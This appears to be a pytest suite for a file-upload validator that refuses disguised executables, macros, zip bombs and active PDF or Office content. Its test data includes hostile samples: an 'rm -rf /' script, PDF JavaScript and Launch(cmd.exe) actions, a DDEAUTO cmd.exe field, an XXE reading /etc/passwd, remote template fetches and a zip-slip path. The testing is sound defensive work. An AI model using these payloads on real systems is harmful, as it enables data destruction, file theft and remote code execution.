"""The content decides what a file is; the name must agree; nothing that can run comes in."""

import io
import zlib

import pytest

from yimen.foundation.files import rules
from yimen.foundation.files.errors import FileRefused
from yimen.foundation.files.tests import factories as make

GOOD = {
    "材料.pdf": (make.pdf(), "pdf"),
    "照片.JPG": (make.jpeg(), "jpeg"),
    "扫描.png": (make.png(), "png"),
    "扫描.bmp": (make.bmp(), "bmp"),
    "扫描.tif": (make.tiff(), "tiff"),
    "截图.webp": (make.webp(), "webp"),
    "照片.heic": (make.heic(), "heic"),
    "公文.ofd": (make.ofd(), "ofd"),
    "申请.docx": (make.docx(), "docx"),
    "名单.xlsx": (make.xlsx(), "xlsx"),
    "旧文.doc": (make.compound("WordDocument"), "doc"),
    "旧表.xls": (make.compound("Workbook"), "xls"),
}


def check(content: bytes, name: str) -> str:
    return rules.check_content(io.BytesIO(content), len(content), name).code


@pytest.mark.parametrize("name", GOOD)
def test_every_kind_of_paper_comes_in(name: str) -> None:
    content, code = GOOD[name]
    assert check(content, name) == code


def refusal(content: bytes, name: str) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        check(content, name)
    assert caught.value.fields["file"] == caught.value.message
    return caught.value


DISGUISED = [
    (b"MZ\x90\x00" + bytes(60), "身份证.pdf", "Windows 程序"),
    (b"\x7fELF" + bytes(60), "照片.jpg", "Linux 程序"),
    (b"#!/bin/sh\nrm -rf /\n", "照片.png", "脚本"),
    (b"<html><script>alert(1)</script>", "营业执照.pdf", "网页"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "图.png", "SVG"),
    (b"PK\x05\x06" + bytes(18), "申请.docx", "纯文本|不是"),
    (b"GIF89a" + bytes(20), "图.jpg", "GIF"),
    (make.zipped({"a.txt": b"x"}), "合同.docx", "ZIP 压缩包"),
    (b"Rar!\x1a\x07\x00" + bytes(9), "合同.pdf", "RAR 压缩包"),
    (b"\x00\x00\x00\x18ftypmp42" + bytes(40), "照片.heic", "录像"),
    (make.png(), "身份证.jpg", "PNG 图片"),
    (make.pdf(), "身份证.docx", "PDF"),
]


@pytest.mark.parametrize(("content", "name", "really"), DISGUISED)
def test_a_disguised_file_is_refused_and_named(content: bytes, name: str, really: str) -> None:
    refused = refusal(content, name)
    assert refused.code == "file_disguised"
    assert any(word in refused.message for word in really.split("|"))


UNWANTED = [
    (make.zipped({"a.txt": b"x"}), "材料.zip", "ZIP 压缩包"),
    (b"plain words", "说明.txt", "纯文本"),
    (b"@echo off\r\n", "a.bat", "脚本"),
    (b"<!DOCTYPE html><html>", "a.html", "网页"),
    (b"%!PS-Adobe", "a.ps", "PostScript"),
]


@pytest.mark.parametrize(("content", "name", "what"), UNWANTED)
def test_other_kinds_are_refused_by_name(content: bytes, name: str, what: str) -> None:
    refused = refusal(content, name)
    assert what in refused.message
    assert "PDF" in refused.would_pass


def test_an_empty_file_is_refused() -> None:
    assert refusal(b"", "空.pdf").code == "file_empty"


DANGEROUS = [
    make.pdf(b"4 0 obj<</S/JavaScript/JS(x)>>endobj\n"),
    make.pdf(b"4 0 obj<</S/J#61vaScript/JS(x)>>endobj\n"),
    make.pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
    make.pdf(b"4 0 obj<</Type/EmbeddedFile>>stream\nendstream endobj\n"),
    make.pdf_with_hidden_script(),
]


@pytest.mark.parametrize("content", DANGEROUS)
def test_a_pdf_that_can_do_something_is_refused(content: bytes) -> None:
    assert refusal(content, "材料.pdf").code == "file_dangerous"


def test_a_locked_pdf_is_refused() -> None:
    assert refusal(make.pdf(b"trailer<</Encrypt 7 0 R>>"), "材料.pdf").code == "file_locked"


def test_a_word_that_spans_two_windows_is_still_found() -> None:
    for shift in range(0, 20, 3):
        filling = b"%" + b"x" * (1_048_576 - 160 - shift) + b"\n"
        assert (
            refusal(make.pdf(filling + b"4 0 obj<</S/JavaScript/JS(x)>>endobj\n"), "大.pdf").code
            == "file_dangerous"
        )


@pytest.mark.parametrize(
    "part", ["word/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.bin"]
)
def test_office_macros_are_refused(part: str) -> None:
    assert "宏" in refusal(make.docx({part: b"x"}), "申请.docx").message


def test_macros_of_older_office_files_are_refused() -> None:
    assert "宏" in refusal(make.compound("WordDocument_VBA_PROJECT"), "旧文.doc").message


def test_a_word_paper_that_fetches_its_template_is_refused() -> None:
    rels = b'<Relationship Type="x/attachedTemplate" Target="http://a/b.dotm" TargetMode="External"/>'
    assert refusal(make.docx({"word/_rels/settings.xml.rels": rels}), "a.docx").code == "file_dangerous"


def test_a_program_inside_a_package_is_refused() -> None:
    assert refusal(make.docx({"word/embeddings/run.exe": b"MZ"}), "a.docx").code == "file_dangerous"


def test_a_packing_bomb_is_refused() -> None:
    assert refusal(make.docx({"word/media/x.bin": bytes(40 * 1_048_576)}), "a.docx").code == "file_bomb"


def test_a_picture_too_large_to_open_is_refused() -> None:
    assert refusal(make.png(60_000, 60_000), "a.png").code == "file_bomb"


CUT = {
    "a.pdf": make.pdf(tail=b""),
    "a.jpg": make.jpeg(end=b""),
    "a.png": make.png()[:-10],
    "a.docx": make.docx()[:-30],
    "a.bmp": make.bmp()[:-4],
    "a.webp": make.webp()[:-2],
    "a.heic": make.heic()[:-4],
    "a.tif": make.tiff()[:12],
}


@pytest.mark.parametrize("name", CUT)
def test_a_file_cut_off_is_refused(name: str) -> None:
    assert refusal(CUT[name], name).code == "file_broken"


@pytest.mark.parametrize("name", GOOD)
def test_no_cut_makes_the_checks_fall_over(name: str) -> None:
    content, _ = GOOD[name]
    for length in range(1, len(content), max(1, len(content) // 60)):
        try:
            check(content[:length], name)
        except FileRefused:
            continue


RELATION = b'<Relationships><Relationship Id="r1" Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
HIDDEN_IN_OFFICE = {
    "an object fetched": {"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"http://203.0.113.1/x")},
    "a picture fetched": {"word/_rels/document.xml.rels": RELATION % (b"image", b"\\\\203.0.113.1\\x.png")},
    "a template fetched": {
        "word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"http://203.0.113.1/x")
    },
    "an object inside": {"word/embeddings/oleObject1.bin": b"x"},
    "a call of a program": {
        "word/document.xml": b"<w:instrText xml:space='preserve'> DDEAUTO c:\\cmd.exe </w:instrText>"
    },
    "an external definition": {
        "word/styles.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    },
    "the same in other letters": {"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")},
    "an entry outside": {"../../outside.xml": b"<x/>"},
}


@pytest.mark.parametrize("what", HIDDEN_IN_OFFICE)
def test_office_files_that_reach_outside_are_refused(what: str) -> None:
    assert refusal(make.docx(HIDDEN_IN_OFFICE[what]), "申请.docx").code == "file_dangerous"


def test_a_link_to_click_and_words_about_dde_may_stay() -> None:
    content = {
        "word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"http://203.0.113.1/x"),
        "word/document.xml": "<w:t>DDE 是一种旧的技术</w:t>".encode(),
    }
    assert check(make.docx(content), "申请.docx") == "docx"


@pytest.mark.parametrize(
    "action", [b"SubmitForm/F(http://203.0.113.1/)", b"GoToR/F(\\\\203.0.113.1\\x)", b"ImportData/F(x)"]
)
def test_a_pdf_that_sends_or_fetches_is_refused(action: bytes) -> None:
    assert refusal(make.pdf(b"9 0 obj<</S/" + action + b">>endobj\n"), "材料.pdf").code == "file_dangerous"


def test_a_script_in_an_object_stream_packed_twice_is_refused() -> None:
    hidden = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert(1))>>").hex().encode() + b">"
    for named in (
        b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
        b"/Filter [/ASCIIHexDecode /FlateDecode]/Type/ObjStm",
    ):
        body = b"8 0 obj<<" + named + b"/N 1/First 4>>stream\r\n" + hidden + b"\nendstream endobj\n"
        assert refusal(make.pdf(body), "材料.pdf").code == "file_dangerous"
